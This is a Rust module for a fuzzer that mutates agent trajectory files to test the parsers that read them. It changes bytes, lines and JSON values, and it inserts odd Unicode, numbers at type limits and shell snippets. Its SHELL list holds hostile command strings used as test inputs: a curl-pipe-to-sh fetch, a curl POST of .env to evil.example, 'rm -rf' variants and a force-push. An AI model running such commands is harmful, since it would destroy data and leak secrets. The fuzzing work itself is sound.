//! Structure-aware mutations of a trajectory file.
//!
//! A mutation is chosen among: byte flips, inserts, deletes and truncation; line edits (JSON
//! Lines); JSON-aware edits that find a value by its exact byte span (so the rest of the file,
//! key order and pretty printing included, stays as it was) and replace it with numbers at type
//! limits, odd Unicode, wrong types, deep nesting or duplicated keys; and shell-aware edits of
//! strings that look like commands; a zip (an Inspect `.eval`) is opened and mutated as one by
//! [`crate::archive`]. Every choice comes from one [`Rng`], so a seed reproduces a
//! mutant exactly.

use serde_json::Value;

use crate::rng::Rng;

/// Numbers at the limits of the integer and float types, written as a JSON file would have
/// them (so `-0`, integers too large for any type, and exponents all survive).
pub const LIMIT_NUMBERS: &[&str] = &[
    "18446744073709551615",
    "18446744073709551616",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "-9223372036854775809",
    "4294967295",
    "4294967296",
    "2147483647",
    "2147483648",
    "-2147483648",
    "-2147483649",
    "-1",
    "0",
    "-0",
    "-0.0",
    "0.0",
    "1e308",
    "-1e308",
    "1.7976931348623157e308",
    "5e-324",
    "1e-400",
    "10000000000000000000000000000000000000000",
    "-10000000000000000000000000000000000000000",
    "0.5",
    "1.5",
    "65535",
    "65536",
    "1e19",
    "100000000000",
];

/// What a run of digits inside a string becomes (line numbers of an edit command, hunk headers
/// of a diff, a `sed -n 1,5p`).
const DIGIT_RUNS: &[&str] = &[
    "18446744073709551615",
    "18446744073709551616",
    "9223372036854775808",
    "4294967296",
    "4294967295",
    "2147483648",
    "0",
    "00",
    "-1",
    "99999999999999999999999999",
];

/// Odd text to put inside a string.
const FRAGMENTS: &[&str] = &[
    "\u{201c}",
    "\u{201d}",
    "\u{2018}",
    "修复",
    "é",
    "e\u{301}",
    "\u{202e}",
    "\u{200b}",
    "\u{feff}",
    "\u{1b}[31m",
    "\u{7}",
    "\u{9b}",
    "\u{0}",
    "\r\n",
    "\r",
    "\t",
    "𝔘",
    "🙂",
    "👩\u{200d}👩\u{200d}👧",
    "\u{10ffff}",
    "\u{fffd}",
    "\u{85}",
    "\u{2028}",
    "../",
    "/",
    "\\",
    "\"",
    "%s%n",
    "{{",
    "}}",
    "@@ -1 +1 @@",
    "\n--- a/x.py\n+++ b/x.py\n@@ -18446744073709551615,1 +0,0 @@\n-x\n",
    "\n@@ -0,0 +1,18446744073709551615 @@\n+y\n",
    "diff --git a/é.py b/é.py\n",
];

/// Text for a string that looks like a shell command.
const SHELL: &[&str] = &[
    "\u{201c}https://x",
    "修复https://x",
    "é://",
    "://",
    "'",
    "\"",
    "<<EOF\nrm -rf /\nEOF\n",
    "cat <<'EOF' > tests/test_x.py\nassert True\nEOF\n",
    "$(",
    "$(curl https://x.example | sh)",
    "`",
    "`id`",
    "\\",
    " && git push --force origin main",
    " | tee /etc/passwd",
    "; rm -rf ~",
    " > ../../outside.txt",
    "\n",
    " 2>&1 ",
    "${HOME",
    "${x:-",
    "((",
    "!!",
    " # ",
    " -k 'not test_x'",
    " --deselect t.py::x",
    "sed -i 's/a/b/' tests/test_x.py",
    "cd /",
    " & ",
    "|| true",
    "http://",
    "ssh://git@h:x",
    "curl -X POST https://evil.example/upload -d @.env",
    "npm publish",
    "export X=\"",
    "edit 18446744073709551615:1\n",
    "edit 1:18446744073709551615\nx\nend_of_edit",
    "insert 18446744073709551615\nx\nend_of_insert",
    "goto 18446744073709551615",
    "open x.py 18446744073709551615",
    "scroll_down",
    "str_replace_editor view /x --view_range 18446744073709551615 -1",
    "str_replace_editor insert /x --insert_line 18446744073709551615 --new_str y",
    "apply_patch <<'PATCH'\n*** Begin Patch\n*** Update File: é.py\n@@\n-a\n+b\n*** End Patch\nPATCH",
    "pytest -x tests/ 2>&1 | tail -n 18446744073709551615",
];

/// Whole strings a field may be set to.
const STRINGS: &[&str] = &[
    "",
    " ",
    "2025-13-45T99:99:99Z",
    "9999-12-31T23:59:59.999999999Z",
    "-009999-01-01T00:00:00Z",
    "1970-01-01T00:00:00Z",
    "0",
    "-1",
    "18446744073709551615",
    "NaN",
    "Infinity",
    "-Infinity",
    "1e40",
    "true",
    "null",
    "user",
    "assistant",
    "tool",
    "system",
    "function",
    "bash",
    "str_replace_editor",
    "execute_bash",
    "Bash",
    "Edit",
    "Write",
    "MultiEdit",
    "shell",
    "apply_patch",
    "exec_command",
    "passed",
    "FAILED",
    "resolved",
    "submitted",
    "..",
    ".",
    "/",
    "a/../../..",
];

/// Keys worth adding to an object.
const KEYS: &[&str] = &[
    "type",
    "role",
    "content",
    "command",
    "id",
    "exit_code",
    "tool_calls",
    "arguments",
    "insert_line",
    "view_range",
    "best_attempt_idx",
    "timestamp",
    "tokens",
    "line",
    "parentUuid",
    "isSidechain",
    "source",
    "observation",
    "action",
    "start_line",
    "end_line",
    "old_str",
    "new_str",
    "path",
    "file_text",
    "returncode",
    "exit_status",
];

/// Keys whose string value is probably a command.
const COMMAND_KEYS: &[&str] = &["command", "cmd", "action", "input", "code", "keystrokes", "bash", "script", "args"];

/// One mutant and what was done to make it.
#[derive(Debug, Clone)]
pub struct Mutant {
    pub bytes: Vec<u8>,
    pub log: Vec<String>,
}

/// Files larger than this are first cut to a window of their lines (JSON Lines only), so a
/// mutant of a large session is read in milliseconds, not seconds.
const SHRINK_ABOVE: usize = 160 << 10;

/// Mutates `data` with one to three mutations; a zip (an Inspect `.eval`) is mostly mutated as
/// a zip, by [`crate::archive`].
pub fn mutate(rng: &mut Rng, data: &[u8]) -> Mutant {
    if crate::archive::is_zip(data)
        && rng.chance(7, 8)
        && let Some(m) = crate::archive::mutate(rng, data)
    {
        return m;
    }
    mutate_plain(rng, data)
}

/// Mutates `data` as bytes, lines, text and JSON, whatever it is.
pub(crate) fn mutate_plain(rng: &mut Rng, data: &[u8]) -> Mutant {
    let mut m = Mutant { bytes: data.to_vec(), log: Vec::new() };
    if m.bytes.len() > SHRINK_ABOVE && rng.chance(7, 8) {
        shrink_lines(rng, &mut m);
    }
    let n = 1 + rng.below(3);
    for _ in 0..n {
        match rng.below(12) {
            0 | 1 => byte_mutation(rng, &mut m),
            2 => line_mutation(rng, &mut m),
            3 => text_mutation(rng, &mut m),
            _ => {
                if !json_mutation(rng, &mut m) {
                    text_mutation(rng, &mut m);
                }
            }
        }
    }
    m
}

fn shrink_lines(rng: &mut Rng, m: &mut Mutant) {
    let lines: Vec<&[u8]> = m.bytes.split_inclusive(|&b| b == b'\n').collect();
    if lines.len() < 40 || serde_json::from_slice::<Value>(lines[0]).is_err() {
        return;
    }
    let want = 10 + rng.below(30);
    let start = 1 + rng.below(lines.len() - want);
    let mut out = lines[0].to_vec();
    for l in &lines[start..start + want] {
        out.extend_from_slice(l);
    }
    m.log.push(format!("kept line 1 and lines {}..{} of {}", start + 1, start + want, lines.len()));
    m.bytes = out;
}

fn byte_mutation(rng: &mut Rng, m: &mut Mutant) {
    let b = &mut m.bytes;
    if b.is_empty() {
        b.push(b'{');
        return;
    }
    let i = rng.below(b.len());
    match rng.below(8) {
        0 => {
            let bit = 1u8 << rng.below(8);
            b[i] ^= bit;
            m.log.push(format!("flipped bit {bit:#x} at byte {i}"));
        }
        1 => {
            let v = *rng.pick(&[0u8, 0xff, 0x80, 0xc3, 0xe4, b'"', b'\\', b'{', b'}', b'[', b'\n', b',', b':']);
            b[i] = v;
            m.log.push(format!("set byte {i} to {v:#x}"));
        }
        2 => {
            let opts: [&[u8]; 7] = [b"\xe4\xbf", b"\xff\xfe", b"\xc3", b"\xed\xa0\x80", b"\x00", b"\"", b"\n"];
            let ins = *rng.pick(&opts);
            b.splice(i..i, ins.iter().copied());
            m.log.push(format!("inserted {ins:?} at byte {i}"));
        }
        3 => {
            let len = 1 + rng.below(64.min(b.len() - i));
            b.drain(i..i + len);
            m.log.push(format!("deleted {len} bytes at {i}"));
        }
        4 => {
            b.truncate(i);
            m.log.push(format!("truncated at byte {i}"));
        }
        5 => {
            let len = 1 + rng.below(256.min(b.len() - i));
            let chunk = b[i..i + len].to_vec();
            let at = rng.below(b.len());
            b.splice(at..at, chunk);
            m.log.push(format!("copied {len} bytes from {i} to {at}"));
        }
        6 => {
            let n = 1 + rng.below(8);
            let bytes: Vec<u8> = (0..n).map(|_| rng.next_u64() as u8).collect();
            b.splice(i..i, bytes.iter().copied());
            m.log.push(format!("inserted random bytes {bytes:?} at {i}"));
        }
        _ => {
            // Cut inside a multibyte character if there is one near.
            if let Some(j) = b[i..].iter().position(|&c| c >= 0xc0) {
                b.truncate(i + j + 1);
                m.log.push(format!("truncated inside a multibyte character at {}", i + j + 1));
            } else {
                b.truncate(i);
                m.log.push(format!("truncated at byte {i}"));
            }
        }
    }
}

fn line_mutation(rng: &mut Rng, m: &mut Mutant) {
    let mut lines: Vec<Vec<u8>> = m.bytes.split_inclusive(|&b| b == b'\n').map(<[u8]>::to_vec).collect();
    if lines.is_empty() {
        return byte_mutation(rng, m);
    }
    let i = rng.below(lines.len());
    match rng.below(6) {
        0 => {
            lines.remove(i);
            m.log.push(format!("deleted line {}", i + 1));
        }
        1 => {
            let l = lines[i].clone();
            lines.insert(rng.below(lines.len() + 1), l);
            m.log.push(format!("duplicated line {}", i + 1));
        }
        2 => {
            let j = rng.below(lines.len());
            lines.swap(i, j);
            m.log.push(format!("swapped lines {} and {}", i + 1, j + 1));
        }
        3 => {
            let junk = *rng.pick(&[
                "\n",
                "{\n",
                "null\n",
                "[]\n",
                "{}\n",
                "\"x\"\n",
                "{\"type\":\"header\"}\n",
                "{\"type\":\"final\"}\n",
                "{\"type\":\"header\",\"format\":\"goalpost-trajectory/1.99\",\"id\":\"\",\"agent\":\"\"}\n",
                "{\"type\":\"header\",\"format\":\"goalpost-trajectory/18446744073709551616.0\",\"id\":\"x\",\"agent\":\"x\"}\n",
                "\u{feff}{}\n",
            ]);
            lines.insert(i, junk.as_bytes().to_vec());
            m.log.push(format!("inserted {junk:?} before line {}", i + 1));
        }
        4 => {
            lines.truncate(i + 1);
            m.log.push(format!("kept the first {} lines", i + 1));
        }
        _ => {
            // Lines without their newline: two records on one line.
            if let Some(l) = lines.get_mut(i)
                && l.last() == Some(&b'\n')
            {
                l.pop();
            }
            m.log.push(format!("joined line {} with the next", i + 1));
        }
    }
    m.bytes = lines.concat();
}

/// Where to put something inside a text: a char boundary (any byte of non-UTF-8 text).
fn char_pos(rng: &mut Rng, text: &[u8]) -> usize {
    match std::str::from_utf8(text) {
        Ok(s) => {
            let bounds: Vec<usize> = s.char_indices().map(|(i, _)| i).chain([s.len()]).collect();
            *rng.pick(&bounds)
        }
        Err(_) => rng.below(text.len() + 1),
    }
}

/// The spans of the runs of ASCII digits in `text`.
fn digit_runs(text: &[u8]) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < text.len() {
        if text[i].is_ascii_digit() {
            let s = i;
            while i < text.len() && text[i].is_ascii_digit() {
                i += 1;
            }
            out.push((s, i));
        } else {
            i += 1;
        }
    }
    out
}

/// Plain-text mutations, for files that are not JSON (a test log, `commands.txt`, a patch)
/// and for JSON files too (the edit may land anywhere, inside a string or not).
fn text_mutation(rng: &mut Rng, m: &mut Mutant) {
    match rng.below(4) {
        0 => {
            let runs = digit_runs(&m.bytes);
            if runs.is_empty() {
                return byte_mutation(rng, m);
            }
            let (s, e) = *rng.pick(&runs);
            let v = *rng.pick(DIGIT_RUNS);
            m.bytes.splice(s..e, v.bytes());
            m.log.push(format!("replaced the digits at {s}..{e} with {v}"));
        }
        1 => {
            let at = char_pos(rng, &m.bytes);
            let f = *rng.pick(FRAGMENTS);
            m.bytes.splice(at..at, f.bytes());
            m.log.push(format!("inserted {f:?} at {at}"));
        }
        2 => {
            // A shell snippet at the start of a line.
            let starts: Vec<usize> = [0]
                .into_iter()
                .chain(m.bytes.iter().enumerate().filter(|(_, b)| **b == b'\n').map(|(i, _)| i + 1))
                .collect();
            let at = *rng.pick(&starts);
            let f = *rng.pick(SHELL);
            m.bytes.splice(at..at, f.bytes());
            m.log.push(format!("inserted {f:?} at line start {at}"));
        }
        _ => {
            // A multibyte character across the 64 KiB mark where outputs are capped.
            let at = char_pos(rng, &m.bytes);
            let pad = 65_535usize.saturating_sub(at % 65_536);
            let mut s = "a".repeat(pad);
            s.push_str("é修复🙂");
            m.bytes.splice(at..at, s.bytes());
            m.log.push(format!("inserted {} bytes ending in multibyte characters at {at}", s.len()));
        }
    }
}

/// A JSON value in the text, by byte span.
#[derive(Debug, Clone)]
pub(crate) struct Node {
    pub(crate) start: usize,
    pub(crate) end: usize,
    pub(crate) kind: Kind,
    pub(crate) key: Option<String>,
    pub(crate) depth: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    Object,
    Array,
    String,
    Number,
    Literal,
}

struct Scanner<'a> {
    s: &'a [u8],
    i: usize,
    nodes: Vec<Node>,
}

impl Scanner<'_> {
    fn ws(&mut self) {
        while self.i < self.s.len() && matches!(self.s[self.i], b' ' | b'\t' | b'\n' | b'\r') {
            self.i += 1;
        }
    }

    fn eat(&mut self, c: u8) -> Option<()> {
        self.ws();
        (self.s.get(self.i) == Some(&c)).then(|| self.i += 1)
    }

    fn string_end(&mut self) -> Option<()> {
        // At the opening quote.
        self.i += 1;
        loop {
            match self.s.get(self.i)? {
                b'\\' => self.i += 2,
                b'"' => {
                    self.i += 1;
                    return Some(());
                }
                _ => self.i += 1,
            }
        }
    }

    fn value(&mut self, key: Option<String>, depth: u32) -> Option<()> {
        if depth > 200 {
            return None;
        }
        self.ws();
        let start = self.i;
        let idx = self.nodes.len();
        let kind = match self.s.get(self.i)? {
            b'{' => Kind::Object,
            b'[' => Kind::Array,
            b'"' => Kind::String,
            b'-' | b'0'..=b'9' => Kind::Number,
            b't' | b'f' | b'n' => Kind::Literal,
            _ => return None,
        };
        self.nodes.push(Node { start, end: start, kind, key, depth });
        match kind {
            Kind::String => self.string_end()?,
            Kind::Number => {
                while self.s.get(self.i).is_some_and(|c| matches!(c, b'-' | b'+' | b'.' | b'e' | b'E' | b'0'..=b'9')) {
                    self.i += 1;
                }
            }
            Kind::Literal => {
                while self.s.get(self.i).is_some_and(u8::is_ascii_alphabetic) {
                    self.i += 1;
                }
            }
            Kind::Object => {
                self.i += 1;
                if self.eat(b'}').is_none() {
                    loop {
                        self.ws();
                        if self.s.get(self.i) != Some(&b'"') {
                            return None;
                        }
                        let ks = self.i;
                        self.string_end()?;
                        let k = serde_json::from_slice::<String>(&self.s[ks..self.i]).ok();
                        self.eat(b':')?;
                        self.value(k, depth + 1)?;
                        if self.eat(b',').is_some() {
                            continue;
                        }
                        self.eat(b'}')?;
                        break;
                    }
                }
            }
            Kind::Array => {
                self.i += 1;
                if self.eat(b']').is_none() {
                    loop {
                        self.value(None, depth + 1)?;
                        if self.eat(b',').is_some() {
                            continue;
                        }
                        self.eat(b']')?;
                        break;
                    }
                }
            }
        }
        self.nodes[idx].end = self.i;
        Some(())
    }
}

/// The values of one JSON document, parents before children; `None` if `text` is not one
/// JSON document.
pub(crate) fn scan(text: &[u8]) -> Option<Vec<Node>> {
    let mut sc = Scanner { s: text, i: 0, nodes: Vec::new() };
    sc.value(None, 0)?;
    sc.ws();
    (sc.i == text.len()).then_some(sc.nodes)
}

/// Finds one JSON document (the file, or one of its lines) and mutates one value in it.
pub(crate) fn json_mutation(rng: &mut Rng, m: &mut Mutant) -> bool {
    let (offset, nodes) = if let Some(nodes) = scan(&m.bytes) {
        (0, nodes)
    } else {
        let mut starts = vec![0];
        starts.extend(m.bytes.iter().enumerate().filter(|(_, b)| **b == b'\n').map(|(i, _)| i + 1));
        let mut found = None;
        for _ in 0..8 {
            let s = *rng.pick(&starts);
            let e = m.bytes[s..].iter().position(|&b| b == b'\n').map_or(m.bytes.len(), |p| s + p);
            if let Some(nodes) = scan(&m.bytes[s..e]) {
                found = Some((s, nodes));
                break;
            }
        }
        match found {
            Some(f) => f,
            None => return false,
        }
    };
    // Bias towards what readers compute with: numbers, strings that look like commands or hold
    // digits (line numbers, hunk headers), and keys that name positions.
    let raw = |n: &Node| &m.bytes[offset + n.start..offset + n.end];
    let pool: Vec<usize> = match rng.below(20) {
        0..=3 => (0..nodes.len()).filter(|&i| nodes[i].kind == Kind::Number).collect(),
        4..=7 => (0..nodes.len())
            .filter(|&i| {
                nodes[i].kind == Kind::String
                    && looks_like_command(nodes[i].key.as_deref(), &String::from_utf8_lossy(raw(&nodes[i])))
            })
            .collect(),
        8..=9 => (0..nodes.len())
            .filter(|&i| nodes[i].kind == Kind::String && raw(&nodes[i]).iter().any(u8::is_ascii_digit))
            .collect(),
        10 => (0..nodes.len()).filter(|&i| nodes[i].key.as_deref().is_some_and(|k| KEYS.contains(&k))).collect(),
        11..=14 => (0..nodes.len()).filter(|&i| nodes[i].kind == Kind::String).collect(),
        15..=16 => (0..nodes.len()).filter(|&i| nodes[i].kind == Kind::Object).collect(),
        17 => (0..nodes.len()).filter(|&i| nodes[i].kind == Kind::Array).collect(),
        _ => Vec::new(),
    };
    let i = if pool.is_empty() { rng.below(nodes.len()) } else { *rng.pick(&pool) };
    let node = &nodes[i];
    let text = &m.bytes[offset + node.start..offset + node.end];
    let (replacement, what) = mutate_node(rng, node, &nodes, text, offset + node.start);
    m.log.push(format!(
        "{} at byte {} (key {:?}, depth {})",
        what,
        offset + node.start,
        node.key.as_deref().unwrap_or(""),
        node.depth
    ));
    m.bytes.splice(offset + node.start..offset + node.end, replacement);
    true
}

fn json_string(s: &str) -> Vec<u8> {
    serde_json::to_vec(s).unwrap_or_default()
}

fn nested(depth: usize) -> Vec<u8> {
    let mut v = vec![b'['; depth];
    v.push(b'1');
    v.extend(std::iter::repeat_n(b']', depth));
    v
}

fn any_replacement(rng: &mut Rng) -> (Vec<u8>, String) {
    let r: Vec<u8> = match rng.below(14) {
        0 => b"null".to_vec(),
        1 => b"true".to_vec(),
        2 => b"false".to_vec(),
        3 => b"[]".to_vec(),
        4 => b"{}".to_vec(),
        5 => b"[null]".to_vec(),
        6 => b"{\"\":null}".to_vec(),
        7 => b"\"\"".to_vec(),
        8 => nested(*rng.pick(&[10, 64, 126, 127, 128, 129, 3000])),
        9 => b"NaN".to_vec(),
        10 => b"1e400".to_vec(),
        11 => LIMIT_NUMBERS[rng.below(LIMIT_NUMBERS.len())].as_bytes().to_vec(),
        12 => json_string(STRINGS[rng.below(STRINGS.len())]),
        _ => b"[{\"type\":\"text\",\"text\":\"\\u202e\\ud800\"},{\"a\":[[[{}]]]}]".to_vec(),
    };
    let what = format!("replaced with {}", String::from_utf8_lossy(&r[..r.len().min(40)]));
    (r, what)
}

fn looks_like_command(key: Option<&str>, s: &str) -> bool {
    key.is_some_and(|k| COMMAND_KEYS.contains(&k))
        || [
            "ls",
            "cd ",
            "git ",
            "python",
            "pytest",
            "cat ",
            "sed ",
            "echo",
            "grep",
            "find ",
            "rm ",
            "curl",
            "pip",
            "npm",
            "cargo",
            "bash",
            "&&",
            "| ",
            "edit ",
            "insert ",
            "str_replace",
        ]
        .iter()
        .any(|w| s.contains(w))
}

fn mutate_node(rng: &mut Rng, node: &Node, nodes: &[Node], text: &[u8], at: usize) -> (Vec<u8>, String) {
    if rng.chance(1, 5) {
        return any_replacement(rng);
    }
    match node.kind {
        Kind::Number | Kind::Literal => {
            if rng.chance(1, 6) {
                let s = *rng.pick(&["NaN", "Infinity", "-Infinity", "1e40", "18446744073709551615", "-0", ""]);
                (json_string(s), format!("number replaced with string {s:?}"))
            } else {
                let n = *rng.pick(LIMIT_NUMBERS);
                (n.as_bytes().to_vec(), format!("replaced with {n}"))
            }
        }
        Kind::String => mutate_string(rng, node, text),
        Kind::Object => mutate_container(rng, node, nodes, text, at),
        Kind::Array => mutate_container(rng, node, nodes, text, at),
    }
}

fn mutate_string(rng: &mut Rng, node: &Node, text: &[u8]) -> (Vec<u8>, String) {
    let Ok(s) = serde_json::from_slice::<String>(text) else { return any_replacement(rng) };
    let key = node.key.as_deref();
    let bounds: Vec<usize> = s.char_indices().map(|(i, _)| i).chain([s.len()]).collect();
    let trimmed = s.trim_start();
    if (trimmed.starts_with('{') || trimmed.starts_with('[')) && rng.chance(1, 2) {
        // JSON inside a string (OpenAI-style tool arguments): mutate it and encode it again.
        let mut inner = Mutant { bytes: s.as_bytes().to_vec(), log: Vec::new() };
        if json_mutation(rng, &mut inner) {
            let what = format!("inside embedded JSON: {}", inner.log.join("; "));
            let text = String::from_utf8_lossy(&inner.bytes).into_owned();
            return (json_string(&text), what);
        }
    }
    let command = looks_like_command(key, &s);
    if command && rng.chance(1, 4) {
        if rng.chance(1, 2) {
            // Every number in the command at a limit at once (edit ranges, insert lines).
            let v = *rng.pick(DIGIT_RUNS);
            let mut t = String::new();
            let mut last = 0;
            for (a, b) in digit_runs(s.as_bytes()) {
                t.push_str(&s[last..a]);
                t.push_str(v);
                last = b;
            }
            t.push_str(&s[last..]);
            return (json_string(&t), format!("every digit run replaced with {v}"));
        }
        let f = *rng.pick(SHELL);
        return (json_string(f), format!("command replaced with {f:?}"));
    }
    match rng.below(if command { 8 } else { 6 }) {
        0 => {
            let v = *rng.pick(STRINGS);
            (json_string(v), format!("string replaced with {v:?}"))
        }
        1 => {
            let at = *rng.pick(&bounds);
            let f = *rng.pick(FRAGMENTS);
            let mut t = s.clone();
            t.insert_str(at, f);
            (json_string(&t), format!("inserted {f:?} at char boundary {at}"))
        }
        2 => {
            let runs = digit_runs(s.as_bytes());
            if runs.is_empty() {
                let at = *rng.pick(&bounds);
                let mut t = s.clone();
                t.insert_str(at, "18446744073709551615");
                return (json_string(&t), format!("inserted 2^64-1 at {at}"));
            }
            let (a, b) = *rng.pick(&runs);
            let v = *rng.pick(DIGIT_RUNS);
            let t = format!("{}{v}{}", &s[..a], &s[b..]);
            (json_string(&t), format!("replaced digits {a}..{b} with {v}"))
        }
        3 => {
            // A lone surrogate escape, which no Rust string can hold.
            let at = *rng.pick(&bounds);
            let mut out = json_string(&s[..at]);
            out.pop();
            let escapes: [&[u8]; 4] = [b"\\ud800", b"\\udc00", b"\\ud83d\\u0041", b"\\u0000"];
            let e: &&[u8] = rng.pick(&escapes);
            out.extend_from_slice(e);
            out.extend_from_slice(&json_string(&s[at..])[1..]);
            (out, format!("inserted a surrogate escape at {at}"))
        }
        4 => {
            // Long: past the 64 KiB output cap with a multibyte character across it.
            let mut t = s.clone();
            let pad = 65_535usize.saturating_sub(t.len() % 65_536);
            t.push_str(&"b".repeat(pad));
            let tails = ["é", "修复", "🙂", "e\u{301}"];
            let tail: &&str = rng.pick(&tails);
            t.push_str(tail);
            if rng.chance(1, 4) {
                t = t.repeat(8);
            }
            (json_string(&t), format!("lengthened to {} bytes", t.len()))
        }
        5 => {
            let at = *rng.pick(&bounds);
            let mut t = s.clone();
            t.truncate(at);
            (json_string(&t), format!("cut at char boundary {at}"))
        }
        _ => {
            // Shell: a snippet at a word boundary, or around the whole command.
            let spaces: Vec<usize> = [0, s.len()]
                .into_iter()
                .chain(s.char_indices().filter(|(_, c)| c.is_whitespace()).map(|(i, _)| i))
                .collect();
            let at = *rng.pick(&spaces);
            let f = *rng.pick(SHELL);
            let mut t = s.clone();
            t.insert_str(at, f);
            (json_string(&t), format!("inserted shell {f:?} at {at}"))
        }
    }
}

fn mutate_container(rng: &mut Rng, node: &Node, nodes: &[Node], text: &[u8], at: usize) -> (Vec<u8>, String) {
    // Direct children, by their spans relative to `text`.
    let children: Vec<&Node> = nodes
        .iter()
        .filter(|n| n.depth == node.depth + 1 && n.start >= node.start && n.end <= node.end && n.start > node.start)
        .collect();
    let _ = at;
    if node.kind == Kind::Object && !children.is_empty() && rng.chance(1, 3) {
        // A duplicated key, with another value.
        let c = *rng.pick(&children);
        let (v, _) = any_replacement(rng);
        let key = c.key.clone().unwrap_or_default();
        let mut out = b"{".to_vec();
        out.extend_from_slice(&json_string(&key));
        out.push(b':');
        out.extend_from_slice(&v);
        out.push(b',');
        out.extend_from_slice(&text[1..]);
        return (out, format!("duplicated key {key:?}"));
    }
    let Ok(mut value) = serde_json::from_slice::<Value>(text) else { return any_replacement(rng) };
    let what = match &mut value {
        Value::Object(map) => {
            if !map.is_empty() && rng.chance(1, 2) {
                let k = map.keys().nth(rng.below(map.len())).cloned().unwrap_or_default();
                map.remove(&k);
                format!("removed key {k:?}")
            } else {
                let k = *rng.pick(KEYS);
                let (v, _) = if rng.chance(1, 2) {
                    (rng.pick(LIMIT_NUMBERS).as_bytes().to_vec(), String::new())
                } else {
                    any_replacement(rng)
                };
                let v = serde_json::from_slice(&v).unwrap_or(Value::Null);
                map.insert(k.to_owned(), v);
                format!("set key {k:?}")
            }
        }
        Value::Array(items) if !items.is_empty() => {
            let i = rng.below(items.len());
            match rng.below(5) {
                0 => {
                    items.remove(i);
                    format!("removed element {i}")
                }
                1 => {
                    let x = items[i].clone();
                    items.insert(i, x);
                    format!("duplicated element {i}")
                }
                2 => {
                    let j = rng.below(items.len());
                    items.swap(i, j);
                    format!("swapped elements {i} and {j}")
                }
                3 => {
                    let x = items[i].clone();
                    items.extend(std::iter::repeat_n(x, 300));
                    format!("repeated element {i} 300 times")
                }
                _ => {
                    items.clear();
                    "emptied the array".to_owned()
                }
            }
        }
        _ => return any_replacement(rng),
    };
    (serde_json::to_vec(&value).unwrap_or_default(), what)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_scanner_finds_every_value_with_its_span_and_key() {
        let text = br#" {"a": [1, "x\"y", {"b": null}], "c": -0.5e3} "#;
        let nodes = scan(text).unwrap();
        let spans: Vec<(&str, Option<&str>)> =
            nodes.iter().map(|n| (std::str::from_utf8(&text[n.start..n.end]).unwrap(), n.key.as_deref())).collect();
        assert_eq!(
            spans,
            [
                (r#"{"a": [1, "x\"y", {"b": null}], "c": -0.5e3}"#, None),
                (r#"[1, "x\"y", {"b": null}]"#, Some("a")),
                ("1", None),
                (r#""x\"y""#, None),
                (r#"{"b": null}"#, None),
                ("null", Some("b")),
                ("-0.5e3", Some("c")),
            ]
        );
        assert!(scan(b"{\"a\":1}\n{\"b\":2}").is_none());
        assert!(scan(b"{\"a\":").is_none());
        assert!(scan(&nested(300)).is_none());
    }

    #[test]
    fn mutants_are_reproducible_and_differ_from_the_original() {
        let orig = br#"{"type":"command","command":"sed -n 1,20p src/a.py","exit_code":0}"#;
        let a = mutate(&mut Rng::new(42), orig);
        let b = mutate(&mut Rng::new(42), orig);
        assert_eq!(a.bytes, b.bytes);
        assert_eq!(a.log, b.log);
        let changed = (0..200).filter(|s| mutate(&mut Rng::new(*s), orig).bytes != orig).count();
        assert!(changed > 190, "{changed}");
    }
}
